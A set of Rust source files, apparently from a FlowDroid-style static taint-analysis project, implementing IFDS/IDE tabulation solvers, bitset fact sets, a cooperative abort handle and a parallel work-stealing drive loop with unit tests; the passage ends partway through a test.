/// incoming/summary representation; sets are small).
#[derive(Clone, Debug)]
pub struct VecPairs<F>(Vec<(StmtRef, F)>);

impl<F> Default for VecPairs<F> {
    fn default() -> Self {
        VecPairs(Vec::new())
    }
}

impl<F: Clone + Eq> PairSet<F> for VecPairs<F> {
    fn insert(&mut self, site: StmtRef, f: &F) -> bool {
        if self.0.iter().any(|(s, d)| *s == site && d == f) {
            false
        } else {
            self.0.push((site, f.clone()));
            true
        }
    }

    fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    fn to_vec(&self) -> Vec<(StmtRef, F)> {
        self.0.clone()
    }

    fn collect_stats(&self, _stats: &mut TableStats) {}
}

/// The bitset representation (facts that are dense indices).
#[derive(Clone, Copy, Debug, Default)]
pub struct BitsetSets;

impl<F: Idx> FactSetDomain<F> for BitsetSets {
    type Rel = SparseBitMatrix<F, F>;
    type Pairs = BitPairs<F>;
}

impl<F: Idx> FactRel<F> for SparseBitMatrix<F, F> {
    fn insert(&mut self, d2: &F, d1: &F) -> bool {
        SparseBitMatrix::insert(self, *d2, *d1)
    }

    fn contains(&self, d2: &F, d1: &F) -> bool {
        SparseBitMatrix::contains(self, *d2, *d1)
    }

    fn d1s(&self, d2: &F) -> Vec<F> {
        self.row(*d2).map(|row| row.iter().collect()).unwrap_or_default()
    }

    fn keys(&self) -> Vec<F> {
        self.rows().collect()
    }

    fn collect_stats(&self, stats: &mut TableStats) {
        for r in self.rows() {
            count_hybrid(self.row(r).expect("touched row"), stats);
        }
    }
}

/// Pairs grouped by statement, each statement's facts a hybrid bitset.
///
/// Statements stay sorted, facts iterate id-ascending, so `to_vec`
/// order is a pure function of set contents.
#[derive(Clone, Debug)]
pub struct BitPairs<F: Idx> {
    by_site: Vec<(StmtRef, HybridBitSet<F>)>,
}

impl<F: Idx> Default for BitPairs<F> {
    fn default() -> Self {
        BitPairs { by_site: Vec::new() }
    }
}

impl<F: Idx> PairSet<F> for BitPairs<F> {
    fn insert(&mut self, site: StmtRef, f: &F) -> bool {
        let set = match self.by_site.binary_search_by_key(&site, |(s, _)| *s) {
            Ok(pos) => &mut self.by_site[pos].1,
            Err(pos) => {
                self.by_site.insert(pos, (site, HybridBitSet::new()));
                &mut self.by_site[pos].1
            }
        };
        set.insert(*f)
    }

    fn is_empty(&self) -> bool {
        self.by_site.is_empty()
    }

    fn to_vec(&self) -> Vec<(StmtRef, F)> {
        let mut out = Vec::new();
        for (site, set) in &self.by_site {
            out.extend(set.iter().map(|f| (*site, f)));
        }
        out
    }

    fn collect_stats(&self, stats: &mut TableStats) {
        for (_, set) in &self.by_site {
            count_hybrid(set, stats);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use flowdroid_ir::MethodId;

    fn sr(i: usize) -> StmtRef {
        StmtRef::new(MethodId::from_index(0), i)
    }

    /// Both pair-set representations agree on membership and contents
    /// under the same insertion sequence.
    #[test]
    fn pair_sets_agree() {
        let mut vp: VecPairs<u32> = VecPairs::default();
        let mut bp: BitPairs<u32> = BitPairs::default();
        let inserts = [(3, 7u32), (1, 2), (3, 7), (3, 1), (0, 9), (1, 2)];
        for (s, f) in inserts {
            assert_eq!(vp.insert(sr(s), &f), bp.insert(sr(s), &f), "({s},{f})");
        }
        let mut a = vp.to_vec();
        let mut b = bp.to_vec();
        a.sort();
        b.sort();
        assert_eq!(a, b);
        assert!(!vp.is_empty() && !bp.is_empty());
    }

    /// Both relation representations agree on insert/contains/rows.
    #[test]
    fn rels_agree() {
        let mut hr: FxHashMap<u32, FxHashSet<u32>> = Default::default();
        let mut br: SparseBitMatrix<u32, u32> = Default::default();
        let inserts = [(5u32, 1u32), (5, 2), (5, 1), (0, 0), (9, 1)];
        for (d2, d1) in inserts {
            assert_eq!(FactRel::insert(&mut hr, &d2, &d1), FactRel::insert(&mut br, &d2, &d1));
        }
        assert!(FactRel::contains(&hr, &5, &2) && FactRel::contains(&br, &5, &2));
        assert!(!FactRel::contains(&hr, &5, &9) && !FactRel::contains(&br, &5, &9));
        let mut ha = FactRel::d1s(&hr, &5);
        ha.sort_unstable();
        assert_eq!(ha, FactRel::d1s(&br, &5));
        let mut hk = FactRel::keys(&hr);
        hk.sort_unstable();
        assert_eq!(hk, FactRel::keys(&br));
    }

    #[test]
    fn bitset_stats_count_rows() {
        let mut br: SparseBitMatrix<u32, u32> = Default::default();
        for d1 in 0..20u32 {
            FactRel::insert(&mut br, &0, &d1);
        }
        FactRel::insert(&mut br, &1, &1);
        let mut stats = TableStats::default();
        br.collect_stats(&mut stats);
        assert_eq!(stats.rows, 2);
        assert_eq!(stats.dense_rows, 1);
        assert_eq!(stats.sparse_rows, 1);
        assert!(stats.dense_words > 0);
        assert!(stats.any());

        let hr: FxHashMap<u32, FxHashSet<u32>> = Default::default();
        let mut hstats = TableStats::default();
        hr.collect_stats(&mut hstats);
        assert!(!hstats.any());
    }
}
