//! Cooperative abort for long-running tabulations.
//!
//! An [`AbortHandle`] is a cheap, clonable token shared between a
//! solver run and whoever supervises it (a CLI deadline, the analysis
//! daemon's cancel endpoint, a propagation budget). The solver *polls*
//! the handle at a bounded interval — there is no preemption — and
//! winds down cleanly when it has tripped, returning whatever partial
//! state it has as an explicitly `aborted` result.
//!
//! The handle latches the **first** abort cause it observes
//! ([`AbortReason`]); later causes never overwrite it, so a job that
//! was cancelled milliseconds before its deadline reports `Cancelled`
//! on every thread that asks, regardless of which worker noticed first.

use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Why a run was aborted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum AbortReason {
    /// An external [`AbortHandle::cancel`] call (daemon `cancel`
    /// request, Ctrl-C handler, …).
    Cancelled,
    /// The wall-clock deadline passed.
    Deadline,
    /// The path-edge propagation budget was exhausted.
    Budget,
}

impl AbortReason {
    /// Stable lower-case name (used in reports and the wire protocol).
    pub fn as_str(self) -> &'static str {
        match self {
            AbortReason::Cancelled => "cancelled",
            AbortReason::Deadline => "deadline",
            AbortReason::Budget => "budget",
        }
    }
}

impl std::fmt::Display for AbortReason {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug)]
struct AbortInner {
    /// Wall-clock instant after which [`AbortHandle::poll`] trips.
    deadline: Option<Instant>,
    /// Set by [`AbortHandle::cancel`].
    cancelled: AtomicBool,
    /// Latched first cause: 0 = not tripped, else `AbortReason` + 1.
    tripped: AtomicU8,
}

/// A shared, pollable abort token (cancel + optional deadline).
///
/// Clones share state. `Default` is an handle that never trips on its
/// own (cancel/budget only).
#[derive(Clone, Debug)]
pub struct AbortHandle {
    inner: Arc<AbortInner>,
}

impl Default for AbortHandle {
    fn default() -> Self {
        AbortHandle::new()
    }
}

impl AbortHandle {
    /// A handle with no deadline; it trips only via
    /// [`AbortHandle::cancel`] or [`AbortHandle::trip`].
    pub fn new() -> Self {
        AbortHandle {
            inner: Arc::new(AbortInner {
                deadline: None,
                cancelled: AtomicBool::new(false),
                tripped: AtomicU8::new(0),
            }),
        }
    }

    /// A handle whose [`AbortHandle::poll`] trips once `budget` of
    /// wall-clock time has passed (measured from now).
    pub fn with_deadline(budget: Duration) -> Self {
        Self::with_deadline_at(Instant::now() + budget)
    }

    /// A handle tripping at the given instant.
    pub fn with_deadline_at(deadline: Instant) -> Self {
        AbortHandle {
            inner: Arc::new(AbortInner {
                deadline: Some(deadline),
                cancelled: AtomicBool::new(false),
                tripped: AtomicU8::new(0),
            }),
        }
    }

    /// The configured deadline, if any.
    pub fn deadline(&self) -> Option<Instant> {
        self.inner.deadline
    }

    /// Requests cancellation; the next [`AbortHandle::poll`] on any
    /// clone trips with [`AbortReason::Cancelled`] (unless another
    /// cause latched first).
    pub fn cancel(&self) {
        self.inner.cancelled.store(true, Ordering::SeqCst);
        // Latch eagerly so `reason` reflects the cancel even if no
        // solver ever polls again (e.g. cancelling a queued job).
        self.trip(AbortReason::Cancelled);
    }

    /// Latches `reason` as the abort cause if none is latched yet.
    /// Used by solvers for budget exhaustion; safe to call from any
    /// thread.
    pub fn trip(&self, reason: AbortReason) {
        let _ = self.inner.tripped.compare_exchange(
            0,
            reason as u8 + 1,
            Ordering::SeqCst,
            Ordering::SeqCst,
        );
    }

    /// Checks the cancel flag and the deadline, latching the first
    /// cause observed. Returns the latched cause if the handle has
    /// tripped (now or earlier). This is the call solvers place on
    /// their periodic check path.
    pub fn poll(&self) -> Option<AbortReason> {
        if let Some(r) = self.reason() {
            return Some(r);
        }
        if self.inner.cancelled.load(Ordering::SeqCst) {
            self.trip(AbortReason::Cancelled);
        } else if self.inner.deadline.is_some_and(|d| Instant::now() >= d) {
            self.trip(AbortReason::Deadline);
        }
        self.reason()
    }

    /// The latched abort cause, without re-checking cancel/deadline.
    pub fn reason(&self) -> Option<AbortReason> {
        match self.inner.tripped.load(Ordering::SeqCst) {
            0 => None,
            1 => Some(AbortReason::Cancelled),
            2 => Some(AbortReason::Deadline),
            _ => Some(AbortReason::Budget),
        }
    }

    /// Whether the handle has tripped (latched only; see
    /// [`AbortHandle::poll`] to also check cancel/deadline).
    pub fn is_aborted(&self) -> bool {
        self.reason().is_some()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fresh_handle_never_trips() {
        let h = AbortHandle::new();
        assert_eq!(h.poll(), None);
        assert!(!h.is_aborted());
        assert_eq!(h.reason(), None);
    }

    #[test]
    fn cancel_trips_all_clones() {
        let h = AbortHandle::new();
        let c = h.clone();
        h.cancel();
        assert_eq!(c.poll(), Some(AbortReason::Cancelled));
        assert_eq!(h.reason(), Some(AbortReason::Cancelled));
    }

    #[test]
    fn expired_deadline_trips_on_poll() {
        let h = AbortHandle::with_deadline(Duration::ZERO);
        assert_eq!(h.poll(), Some(AbortReason::Deadline));
        // And stays latched.
        assert_eq!(h.reason(), Some(AbortReason::Deadline));
    }

    #[test]
    fn future_deadline_does_not_trip() {
        let h = AbortHandle::with_deadline(Duration::from_secs(3600));
        assert_eq!(h.poll(), None);
    }

    #[test]
    fn first_cause_wins() {
        let h = AbortHandle::with_deadline(Duration::ZERO);
        assert_eq!(h.poll(), Some(AbortReason::Deadline));
        h.cancel();
        // The earlier deadline latch is kept.
        assert_eq!(h.poll(), Some(AbortReason::Deadline));

        let h = AbortHandle::with_deadline(Duration::ZERO);
        h.trip(AbortReason::Budget);
        assert_eq!(h.poll(), Some(AbortReason::Budget));
    }
}
