#![warn(missing_docs)]

//! A generic IFDS tabulation solver.
//!
//! Implements the Reps–Horwitz–Sagiv tabulation algorithm for
//! inter-procedural finite distributive subset problems, with the
//! practical extensions of Naeem, Lhoták and Rodriguez that the paper's
//! Heros solver uses: the exploded supergraph is constructed *on the
//! fly* (only reachable ⟨statement, fact⟩ pairs are ever touched),
//! `incoming` sets map callee entries back to their call sites for
//! correct context-sensitive returns, and end summaries are cached per
//! (callee, entry fact).
//!
//! Two layers are exposed:
//!
//! * [`Solver`] — a ready-to-use driver for any [`IfdsProblem`];
//! * [`Tabulator`] — the underlying worklist/path-edge/summary state
//!   machine, which the FlowDroid core drives *manually* to interleave
//!   its forward taint and backward alias solvers (Algorithms 1 and 2 of
//!   the paper).
//!
//! Flow functions receive a single fact and return its successor facts.
//! The *zero* fact must be mapped to itself (plus anything generated
//! from it) by every flow function; the solver gives it no special
//! treatment beyond seeding.

mod abort;
mod concurrent;
mod drive;
pub mod factset;
pub mod ide;
mod parallel;
mod problem;
mod scheduler;
mod solver;
mod tabulator;

pub use abort::{AbortHandle, AbortReason};
pub use concurrent::{ConcurrentKeyDomain, ConcurrentTabulator, IdentityKeys};
pub use factset::{BitsetSets, FactSetDomain, HashSets, TableStats};
pub use drive::{drive, spill_threshold, WorkerState, DEFAULT_SPILL};
pub use ide::{EdgeTransfer, IdeProblem, IdeResults, IdeSolver};
pub use parallel::ParallelSolver;
pub use problem::IfdsProblem;
pub use scheduler::{SchedulerStats, WorkStealScheduler, DEFAULT_BATCH, DEFAULT_SHARDS};
pub use solver::{IfdsResults, Solver};
pub use tabulator::{PathEdge, Tabulator};
