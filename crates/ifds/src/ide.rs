//! An IDE solver (Sagiv–Reps–Horwitz, TAPSOFT '95): IFDS generalized
//! from set membership to *values from a lattice* computed along the
//! exploded supergraph's edges.
//!
//! The paper's Heros solver implements both IFDS and IDE (its §7 cites
//! Rountev et al.'s IDE-based library summaries as a natural extension
//! of FlowDroid); this module provides the IDE half: **phase 1**
//! computes *jump functions* — composed edge functions from method
//! entries to each reachable ⟨statement, fact⟩ — by a worklist over
//! function joins, and **phase 2** propagates concrete lattice values
//! along the computed jump and summary functions.
//!
//! Edge functions are supplied by the problem as a [`EdgeTransfer`]
//! implementation — a small, *finite-height* algebra with composition
//! and join (the classic instantiation, linear constant propagation,
//! is exercised in the crate's tests).

use crate::problem::IfdsProblem;
use flowdroid_ir::{MethodId, StmtRef};
use std::collections::{HashMap, VecDeque};
use std::fmt::Debug;
use std::hash::Hash;

/// A distributive edge function over lattice values `V`.
///
/// Implementations must form a finite-height join semilattice under
/// [`EdgeTransfer::join`] (the solver iterates to a fixed point of
/// function joins) and compose associatively.
pub trait EdgeTransfer<V>: Clone + Eq + Hash + Debug {
    /// The identity function.
    fn identity() -> Self;
    /// Applies the function to a value.
    fn apply(&self, v: &V) -> V;
    /// `self` followed by `after` (diagrammatic composition).
    fn compose(&self, after: &Self) -> Self;
    /// The join (least upper bound) of two functions.
    fn join(&self, other: &Self) -> Self;
}

/// An IDE problem: an [`IfdsProblem`] whose flow functions additionally
/// label each generated fact with an edge function, plus the value
/// lattice.
pub trait IdeProblem: IfdsProblem {
    /// The value lattice.
    type Value: Clone + Eq + Debug;
    /// The edge-function algebra.
    type Transfer: EdgeTransfer<Self::Value>;

    /// The lattice's top (no information; the initial value of
    /// everything but the seeds).
    fn top(&self) -> Self::Value;
    /// Joins two values (least upper bound toward more information
    /// loss).
    fn join_values(&self, a: &Self::Value, b: &Self::Value) -> Self::Value;
    /// The value seeded at the entry points for the zero fact.
    fn initial_value(&self) -> Self::Value;

    /// The edge function for a normal-flow edge `⟨n, d⟩ → ⟨succ, d'⟩`.
    fn normal_transfer(
        &self,
        n: StmtRef,
        d: &Self::Fact,
        succ: StmtRef,
        d2: &Self::Fact,
    ) -> Self::Transfer;
    /// The edge function for a call edge into a callee.
    fn call_transfer(
        &self,
        call: StmtRef,
        callee: MethodId,
        d: &Self::Fact,
        d2: &Self::Fact,
    ) -> Self::Transfer;
    /// The edge function for a return edge back to a return site.
    fn return_transfer(
        &self,
        call: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        d: &Self::Fact,
        d2: &Self::Fact,
    ) -> Self::Transfer;
    /// The edge function for a call-to-return edge.
    fn call_to_return_transfer(
        &self,
        call: StmtRef,
        d: &Self::Fact,
        d2: &Self::Fact,
    ) -> Self::Transfer;
}

/// The result of an IDE run: lattice values per ⟨statement, fact⟩.
#[derive(Debug)]
pub struct IdeResults<F, V> {
    values: HashMap<(StmtRef, F), V>,
    top: V,
}

impl<F: Eq + Hash, V: Clone> IdeResults<F, V> {
    /// The computed value of `d` before `n` (top if unreached).
    pub fn value_at(&self, n: StmtRef, d: &F) -> V
    where
        F: Clone,
    {
        self.values
            .get(&(n, d.clone()))
            .cloned()
            .unwrap_or_else(|| self.top.clone())
    }

    /// Number of ⟨statement, fact⟩ pairs with a computed value.
    pub fn len(&self) -> usize {
        self.values.len()
    }

    /// Returns `true` when nothing was computed.
    pub fn is_empty(&self) -> bool {
        self.values.is_empty()
    }
}

type JumpKey<F> = (F, StmtRef, F);
/// (callee, entry fact) → exit summaries (exit stmt, exit fact, function).
type SummaryMap<F, T> = HashMap<(MethodId, F), Vec<(StmtRef, F, T)>>;
/// (callee, entry fact) → call contexts (call site, caller fact).
type IncomingMap<F> = HashMap<(MethodId, F), Vec<(StmtRef, F)>>;

/// The two-phase IDE solver.
#[derive(Debug)]
pub struct IdeSolver<'a, P: IdeProblem> {
    icfg: &'a flowdroid_callgraph::Icfg<'a>,
    problem: &'a P,
}

impl<'a, P: IdeProblem> IdeSolver<'a, P> {
    /// Creates a solver.
    pub fn new(icfg: &'a flowdroid_callgraph::Icfg<'a>, problem: &'a P) -> Self {
        IdeSolver { icfg, problem }
    }

    /// Runs both phases.
    pub fn solve(&self) -> IdeResults<P::Fact, P::Value> {
        let jumps = self.phase1();
        self.phase2(&jumps)
    }

    /// Phase 1: compute jump functions `⟨sp, d1⟩ → ⟨n, d2⟩ ↦ f` by a
    /// worklist over function joins.
    fn phase1(&self) -> HashMap<JumpKey<P::Fact>, P::Transfer> {
        let icfg = self.icfg;
        let problem = self.problem;
        let mut jump: HashMap<JumpKey<P::Fact>, P::Transfer> = HashMap::new();
        let mut summaries: SummaryMap<P::Fact, P::Transfer> = HashMap::new();
        let mut incoming: IncomingMap<P::Fact> = HashMap::new();
        let mut work: VecDeque<JumpKey<P::Fact>> = VecDeque::new();

        let propagate =
            |jump: &mut HashMap<JumpKey<P::Fact>, P::Transfer>,
             work: &mut VecDeque<JumpKey<P::Fact>>,
             d1: P::Fact,
             n: StmtRef,
             d2: P::Fact,
             f: P::Transfer| {
                let key = (d1, n, d2);
                match jump.get(&key) {
                    Some(old) => {
                        let joined = old.join(&f);
                        if *old != joined {
                            jump.insert(key.clone(), joined);
                            work.push_back(key);
                        }
                    }
                    None => {
                        jump.insert(key.clone(), f);
                        work.push_back(key);
                    }
                }
            };

        for (n, d) in self.problem.initial_seeds() {
            propagate(&mut jump, &mut work, d.clone(), n, d, P::Transfer::identity());
        }

        while let Some((d1, n, d2)) = work.pop_front() {
            let f = jump[&(d1.clone(), n, d2.clone())].clone();
            let is_call = icfg.is_call(n);
            let callees = icfg.callees_of_call(n);
            if is_call && !callees.is_empty() {
                for &callee in callees {
                    for d3 in problem.call_flow(n, callee, &d2) {
                        let cf = problem.call_transfer(n, callee, &d2, &d3);
                        incoming
                            .entry((callee, d3.clone()))
                            .or_default()
                            .push((n, d2.clone()));
                        for sp in icfg.start_points_of(callee) {
                            propagate(
                                &mut jump,
                                &mut work,
                                d3.clone(),
                                sp,
                                d3.clone(),
                                P::Transfer::identity(),
                            );
                        }
                        // Apply existing summaries.
                        if let Some(sums) = summaries.get(&(callee, d3.clone())) {
                            for (exit, d4, sumf) in sums.clone() {
                                for ret_site in icfg.return_sites_of_call(n) {
                                    for d5 in
                                        problem.return_flow(n, callee, exit, ret_site, &d4)
                                    {
                                        let rf = problem
                                            .return_transfer(n, callee, exit, &d4, &d5);
                                        let whole =
                                            f.compose(&cf).compose(&sumf).compose(&rf);
                                        propagate(
                                            &mut jump,
                                            &mut work,
                                            d1.clone(),
                                            ret_site,
                                            d5,
                                            whole,
                                        );
                                    }
                                }
                            }
                        }
                    }
                }
                for ret_site in icfg.return_sites_of_call(n) {
                    for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
                        let t = problem.call_to_return_transfer(n, &d2, &d3);
                        propagate(&mut jump, &mut work, d1.clone(), ret_site, d3, f.compose(&t));
                    }
                }
            } else if icfg.is_exit(n) {
                let callee = icfg.method_of(n);
                summaries
                    .entry((callee, d1.clone()))
                    .or_default()
                    .push((n, d2.clone(), f.clone()));
                let inc = incoming.get(&(callee, d1.clone())).cloned().unwrap_or_default();
                for (call_site, d4) in inc {
                    let cf = problem.call_transfer(call_site, callee, &d4, &d1);
                    for ret_site in icfg.return_sites_of_call(call_site) {
                        for d5 in problem.return_flow(call_site, callee, n, ret_site, &d2) {
                            let rf = problem.return_transfer(call_site, callee, n, &d2, &d5);
                            // For each caller context reaching the call.
                            let caller_keys: Vec<JumpKey<P::Fact>> = jump
                                .keys()
                                .filter(|(_, cn, cd)| *cn == call_site && cd == &d4)
                                .cloned()
                                .collect();
                            for (cd1, _, _) in caller_keys {
                                let caller_f =
                                    jump[&(cd1.clone(), call_site, d4.clone())].clone();
                                let whole =
                                    caller_f.compose(&cf).compose(&f).compose(&rf);
                                propagate(
                                    &mut jump,
                                    &mut work,
                                    cd1,
                                    ret_site,
                                    d5.clone(),
                                    whole,
                                );
                            }
                        }
                    }
                }
            } else {
                for succ in icfg.succs_of(n) {
                    for d3 in problem.normal_flow(n, succ, &d2) {
                        let t = problem.normal_transfer(n, &d2, succ, &d3);
                        propagate(&mut jump, &mut work, d1.clone(), succ, d3, f.compose(&t));
                    }
                }
            }
        }
        jump
    }

    /// Phase 2: seed entry values and evaluate jump functions.
    fn phase2(
        &self,
        jumps: &HashMap<JumpKey<P::Fact>, P::Transfer>,
    ) -> IdeResults<P::Fact, P::Value> {
        let problem = self.problem;
        // Entry values per (method-start fact): seeds get the initial
        // value; callee entries get values propagated through call
        // edges, iterated to a fixed point.
        let mut entry_vals: HashMap<(StmtRef, P::Fact), P::Value> = HashMap::new();
        for (n, d) in problem.initial_seeds() {
            entry_vals.insert((n, d), problem.initial_value());
        }
        // Iterate: compute node values from entry values, derive new
        // callee-entry values, repeat until stable.
        let mut values: HashMap<(StmtRef, P::Fact), P::Value> = HashMap::new();
        loop {
            values.clear();
            for ((d1, n, d2), f) in jumps {
                // Find the entry value for (sp(n.method), d1).
                let sp = StmtRef::new(n.method, 0);
                let Some(base) = entry_vals.get(&(sp, d1.clone())) else { continue };
                let v = f.apply(base);
                values
                    .entry((*n, d2.clone()))
                    .and_modify(|old| *old = problem.join_values(old, &v))
                    .or_insert(v);
            }
            // Derive callee entry values from call sites.
            let mut changed = false;
            let icfg = self.icfg;
            let call_nodes: Vec<(StmtRef, P::Fact)> = values
                .keys()
                .filter(|(n, _)| icfg.is_call(*n) && !icfg.callees_of_call(*n).is_empty())
                .cloned()
                .collect();
            for (call, d2) in call_nodes {
                let v = values[&(call, d2.clone())].clone();
                for &callee in icfg.callees_of_call(call) {
                    for d3 in problem.call_flow(call, callee, &d2) {
                        let cf = problem.call_transfer(call, callee, &d2, &d3);
                        let nv = cf.apply(&v);
                        for sp in icfg.start_points_of(callee) {
                            let key = (sp, d3.clone());
                            let merged = match entry_vals.get(&key) {
                                Some(old) => problem.join_values(old, &nv),
                                None => nv.clone(),
                            };
                            if entry_vals.get(&key) != Some(&merged) {
                                entry_vals.insert(key, merged);
                                changed = true;
                            }
                        }
                    }
                }
            }
            if !changed {
                break;
            }
        }
        IdeResults { values, top: problem.top() }
    }
}
