//! The shared worker-drive loop for parallel tabulation.
//!
//! Both parallel engines — the generic [`ParallelSolver`]
//! (crate::ParallelSolver) and the FlowDroid core's bidirectional taint
//! engine — used to carry their own copy of the claim / drain / retire
//! loop around [`WorkStealScheduler`]. This module is the single
//! implementation: an engine supplies a per-worker state (anything
//! implementing [`WorkerState`], typically holding caches and a local
//! pending buffer) and a `step` function processing one job, and
//! [`drive`] runs the loop to the scheduler's exact-termination
//! fixpoint.
//!
//! Discovered jobs go to the worker's *local* pending buffer first and
//! are popped LIFO (depth-first, cache-warm). The buffer spills its
//! oldest jobs to the shared scheduler when it grows past a threshold
//! that *adapts to observed starvation*: with no idle workers the full
//! base threshold applies, while each observed idle worker halves it
//! (down to a floor), so busy workers publish work earlier exactly when
//! peers are starved and keep batching when everyone is busy. Spill
//! timing affects scheduling only; the tabulation fixpoint — and with
//! the engines' canonicalized provenance, the reported results — is
//! identical whatever the threshold.

use crate::abort::AbortHandle;
use crate::scheduler::WorkStealScheduler;

/// Default base spill threshold (jobs held locally before publishing).
pub const DEFAULT_SPILL: usize = 64;

/// Jobs a worker processes between [`AbortHandle`] polls. Bounds how
/// far past a deadline a run can drift: one poll interval of work per
/// worker, plus the cost of the job in flight.
const ABORT_CHECK_EVERY: usize = 64;

/// Per-worker state driven by [`drive`]. The only requirement is access
/// to the worker's local pending-job buffer; engines add whatever
/// caches and result accumulators they need.
pub trait WorkerState<J> {
    /// The worker's local buffer of discovered-but-unprocessed jobs.
    fn pending(&mut self) -> &mut Vec<J>;
}

/// The spill threshold for a worker observing `idle` starved peers:
/// `base` when none are idle, halved per idle worker (saturating at
/// three halvings) with a floor of 8.
pub fn spill_threshold(base: usize, idle: usize) -> usize {
    if idle == 0 {
        base
    } else {
        (base >> idle.min(3)).max(8)
    }
}

/// Runs `threads` workers over `sched` until exact termination.
///
/// Each worker is built by `new_worker(index)`, claims batches from the
/// scheduler, appends them to its pending buffer and pops jobs LIFO,
/// calling `step` on each. `step` returning `false` aborts the whole
/// worker (budget exhaustion); remaining queued jobs are left to other
/// workers, which abort the same way. When `abort` is given, every
/// worker additionally polls the handle — once per claimed batch and
/// every [`ABORT_CHECK_EVERY`] processed jobs — and winds down the same
/// way when it trips (deadline passed or external cancel), so an
/// expired job returns within one poll interval per worker instead of
/// running to the fixpoint. Jobs pushed into the pending
/// buffer by `step` are processed before the claimed batch is retired,
/// so the scheduler's `queued == 0 && in_flight == 0` fixpoint test
/// stays exact. When the buffer exceeds the adaptive
/// [`spill_threshold`], its oldest surplus is published to the shard
/// chosen by `shard_of`, down to half the threshold.
///
/// With `threads <= 1` the single worker runs inline on the calling
/// thread (no spawn); since it can never observe an idle peer, the
/// threshold stays at `base_spill` and behavior matches the historic
/// fixed-threshold loop exactly.
///
/// Returns the worker states in worker-index order so engines can merge
/// per-worker accumulators deterministically.
pub fn drive<J, W, N, S, P>(
    sched: &WorkStealScheduler<J>,
    threads: usize,
    base_spill: usize,
    abort: Option<&AbortHandle>,
    new_worker: N,
    shard_of: S,
    step: P,
) -> Vec<W>
where
    J: Send,
    W: WorkerState<J> + Send,
    N: Fn(usize) -> W + Sync,
    S: Fn(&J) -> usize + Sync,
    P: Fn(&mut W, J) -> bool + Sync,
{
    if threads <= 1 {
        let mut w = new_worker(0);
        run_worker(sched, base_spill, abort, 0, &mut w, &shard_of, &step);
        return vec![w];
    }
    let mut workers: Vec<W> = (0..threads).map(&new_worker).collect();
    std::thread::scope(|scope| {
        for (home, w) in workers.iter_mut().enumerate() {
            let shard_of = &shard_of;
            let step = &step;
            scope.spawn(move || run_worker(sched, base_spill, abort, home, w, shard_of, step));
        }
    });
    workers
}

fn run_worker<J, W, S, P>(
    sched: &WorkStealScheduler<J>,
    base_spill: usize,
    abort: Option<&AbortHandle>,
    home: usize,
    w: &mut W,
    shard_of: &S,
    step: &P,
) where
    W: WorkerState<J>,
    S: Fn(&J) -> usize,
    P: Fn(&mut W, J) -> bool,
{
    let mut batch: Vec<J> = Vec::new();
    let mut since_abort_check = 0usize;
    'claims: while sched.claim(home, &mut batch) {
        let taken = batch.len();
        if abort.is_some_and(|h| h.poll().is_some()) {
            batch.clear();
            w.pending().clear();
            sched.retire(taken);
            break 'claims;
        }
        w.pending().append(&mut batch);
        while let Some(job) = w.pending().pop() {
            since_abort_check += 1;
            if since_abort_check >= ABORT_CHECK_EVERY {
                since_abort_check = 0;
                if abort.is_some_and(|h| h.poll().is_some()) {
                    w.pending().clear();
                    sched.retire(taken);
                    break 'claims;
                }
            }
            if !step(w, job) {
                w.pending().clear();
                sched.retire(taken);
                break 'claims;
            }
            let threshold = spill_threshold(base_spill, sched.idle_workers());
            if w.pending().len() > threshold {
                // Publish the *oldest* surplus (front of the buffer):
                // the newest jobs stay local for LIFO cache warmth.
                let surplus = w.pending().len() - threshold / 2;
                let pending = w.pending();
                for job in pending.drain(..surplus).collect::<Vec<_>>() {
                    sched.push(shard_of(&job), job);
                }
            }
        }
        // Retire only after the batch's discoveries are processed or
        // pushed, so the fixpoint test stays exact.
        sched.retire(taken);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicU64, Ordering};

    struct Counter {
        pending: Vec<u64>,
    }

    impl WorkerState<u64> for Counter {
        fn pending(&mut self) -> &mut Vec<u64> {
            &mut self.pending
        }
    }

    #[test]
    fn threshold_adapts_to_idle_workers() {
        assert_eq!(spill_threshold(64, 0), 64);
        assert_eq!(spill_threshold(64, 1), 32);
        assert_eq!(spill_threshold(64, 2), 16);
        assert_eq!(spill_threshold(64, 3), 8);
        assert_eq!(spill_threshold(64, 7), 8); // halvings saturate
        assert_eq!(spill_threshold(8, 1), 8); // floor
    }

    fn run(threads: usize) -> u64 {
        let sched: WorkStealScheduler<u64> = WorkStealScheduler::new(4, 8);
        for i in 0..50u64 {
            sched.push(sched.shard_for(&i), i);
        }
        let done = AtomicU64::new(0);
        let workers = drive(
            &sched,
            threads,
            4,
            None,
            |_| Counter { pending: Vec::new() },
            |job| sched.shard_for(job) % 4,
            |w, job| {
                // Jobs below 50 each spawn two follow-ups, exercising
                // the local buffer and the spill path.
                if job < 50 {
                    w.pending.push(job + 50);
                    w.pending.push(job + 100);
                }
                done.fetch_add(1, Ordering::Relaxed);
                true
            },
        );
        assert_eq!(workers.len(), threads.max(1));
        done.load(Ordering::Relaxed)
    }

    #[test]
    fn drives_to_fixpoint_single_threaded() {
        assert_eq!(run(1), 150);
    }

    #[test]
    fn drives_to_fixpoint_multi_threaded() {
        assert_eq!(run(4), 150);
    }

    #[test]
    fn step_false_aborts_all_workers() {
        let sched: WorkStealScheduler<u64> = WorkStealScheduler::new(4, 2);
        for i in 0..100u64 {
            sched.push(sched.shard_for(&i), i);
        }
        let done = AtomicU64::new(0);
        drive(
            &sched,
            2,
            4,
            None,
            |_| Counter { pending: Vec::new() },
            |job| sched.shard_for(job) % 4,
            |_, _| done.fetch_add(1, Ordering::Relaxed) < 10,
        );
        // Each worker stops within a batch of hitting the budget; far
        // fewer than the queued 100 jobs run.
        assert!(done.load(Ordering::Relaxed) < 100);
    }

    #[test]
    fn tripped_handle_aborts_all_workers() {
        let sched: WorkStealScheduler<u64> = WorkStealScheduler::new(4, 2);
        for i in 0..500u64 {
            sched.push(sched.shard_for(&i), i);
        }
